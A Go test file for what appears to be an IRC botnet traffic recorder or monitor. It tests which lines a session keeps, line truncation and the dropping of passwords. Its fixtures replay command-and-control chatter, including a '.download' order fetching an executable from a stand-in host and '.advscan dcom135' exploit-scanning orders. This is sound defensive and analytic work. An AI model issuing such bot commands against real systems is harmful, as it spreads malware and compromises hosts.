package irc

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

func TestLinesTell(t *testing.T) {
	s := bots[0].run(t)
	want := []Line{
		{2, false, "NICK USA|0262937047", false},
		{2, false, "USER qwfxkz 0 0 :USA|0262937047", false},
		{3, true, ":c2.example 001 USA|0262937047 :Welcome", false},
		{4, true, ":c2.example 332 USA|0262937047 #lobby :.download http://example.net/b.exe b.exe 1", true},
		{5, false, "JOIN #sl0w s3cret", false},
		{7, false, "PRIVMSG #lobby :[DOWNLOAD]: Downloading URL: http://example.net/b.exe to: b.exe.", false},
		{8, true, ":c2.example 332 USA|0262937047 #sl0w :.advscan dcom135 200 3 0 -r -s", true},
	}
	if got := s.Lines(); !reflect.DeepEqual(got, want) {
		t.Errorf("%+v, want\n%+v", got, want)
	}
}

func TestPasswordsAreNotKept(t *testing.T) {
	for _, talk := range allTalks() {
		for _, l := range talk.run(t).Lines() {
			if strings.Contains(l.Text, "PASS") || strings.Contains(l.Text, "AUTHENTICATE") {
				t.Errorf("%s: %q", talk.name, l.Text)
			}
		}
	}
}

// texts returns the lines without what all of a test have in common.
func texts(s *Session) (out []string) {
	for _, l := range s.Lines() {
		_, text, _ := strings.Cut(l.Text, "#x :")
		if text == "" {
			text = l.Text
		}
		out = append(out, text)
	}
	return out
}

func TestTheLeastTellingLineGoes(t *testing.T) {
	k := newCaller(t, false)
	send := func(server bool, format string, args ...any) {
		k.send(server, fmt.Appendf(nil, format+"\r\n", args...))
	}
	send(false, "NICK a")
	send(false, "USER a 0 0 :a")
	send(true, ":s 001 a :hi")
	send(false, "JOIN #x key")
	send(false, "JOIN #x key")
	for i := range 5 {
		send(false, "PRIVMSG #x :[SCAN]: %d", i)
	}
	send(true, ":b PRIVMSG #x :.advscan 1")
	want := []string{"NICK a", "USER a 0 0 :a", ":s 001 a :hi", "JOIN #x key", "[SCAN]: 3", "[SCAN]: 4", ".advscan 1"}
	if got := texts(&k.session); !reflect.DeepEqual(got, want) {
		t.Fatalf("%q, want %q", got, want)
	}
	send(false, "JOIN #y")
	send(true, ":b PRIVMSG #x :.advscan 2")
	send(true, ":b PRIVMSG #x :.advscan 3")
	send(true, ":b PRIVMSG #x :.advscan 3")
	send(false, "NICK b")
	want = []string{"USER a 0 0 :a", "JOIN #x key", "[SCAN]: 3", "[SCAN]: 4", ".advscan 1", ".advscan 2", ".advscan 3", "NICK b"}
	if got := texts(&k.session); !reflect.DeepEqual(got, want) {
		t.Fatalf("%q, want %q", got, want)
	}
	for i := range 20 {
		send(true, ":b PRIVMSG #x :.advscan 1%d", i)
		send(false, "PRIVMSG #x :[SCAN]: 1%d", i)
	}
	got := texts(&k.session)
	if len(got) != linesKept || got[linesKept-1] != ".advscan 119" || got[0] != ".advscan 112" {
		t.Errorf("%q", got)
	}
}

func TestLinesAreCut(t *testing.T) {
	k := newCaller(t, false)
	k.send(true, []byte("@tag=1 :b PRIVMSG #x :.advscan 9 "+strings.Repeat("9", 3000)+"\r\n"))
	got := k.session.Lines()
	if len(got) != 1 || len(got[0].Text) != lineSize || !strings.HasPrefix(got[0].Text, ":b PRIVMSG #x :.advscan 9") {
		t.Errorf("%+v", got)
	}
	if k.session.Facts()&Overlong == 0 {
		t.Error("not overlong")
	}
}

func TestOverlongCountsWithoutTags(t *testing.T) {
	for n, want := range map[int]bool{MaxLine: false, MaxLine + 1: true} {
		k := newCaller(t, false)
		k.send(true, []byte("@tag="+strings.Repeat("t", 1000)+" PING :"+strings.Repeat("x", n-6)+"\r\n"))
		if got := k.session.Facts()&Overlong != 0; got != want {
			t.Errorf("%d octets: %v", n, got)
		}
	}
}
